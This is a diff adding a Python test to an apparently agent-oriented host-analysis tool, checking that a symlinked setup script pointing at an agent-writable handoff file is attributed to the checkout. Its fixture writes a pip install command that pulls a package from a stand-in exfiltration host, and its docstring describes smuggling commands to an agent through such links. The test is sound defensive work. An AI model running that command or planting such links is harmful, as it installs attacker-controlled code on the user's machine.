@@ -165,3 +165,20 @@ def test_an_index_named_on_the_command_line_is_reached(home: Path) -> None:
     )
     hosts = _hosts(command, {"HOME": str(home)})
     assert hosts[:3] == ["127.0.0.1:3141", "x.example", "npm.example"]
+
+
+def test_a_script_the_checkout_links_to_a_file_outside_is_still_the_checkouts(
+    home: Path, tmp_path: Path
+) -> None:
+    """A committed link `scripts/setup.sh` → a file outside whose text an agent could write
+    (a run's handoff): what the command names in the checkout is the checkout's, wherever
+    its link leads, and opens no host."""
+    checkout = tmp_path / "repo"
+    (checkout / "scripts").mkdir(parents=True)
+    outside = tmp_path / "runs" / "handoff.md"
+    outside.parent.mkdir()
+    outside.write_text("pip install --index-url https://exfil.example/simple .\n")
+    (checkout / "scripts" / "setup.sh").symlink_to(outside)
+    hosts = _hosts("bash scripts/setup.sh", {"HOME": str(home)}, checkout)
+    assert "exfil.example" not in hosts
+    assert set(hosts) <= {"pypi.org", "files.pythonhosted.org"}
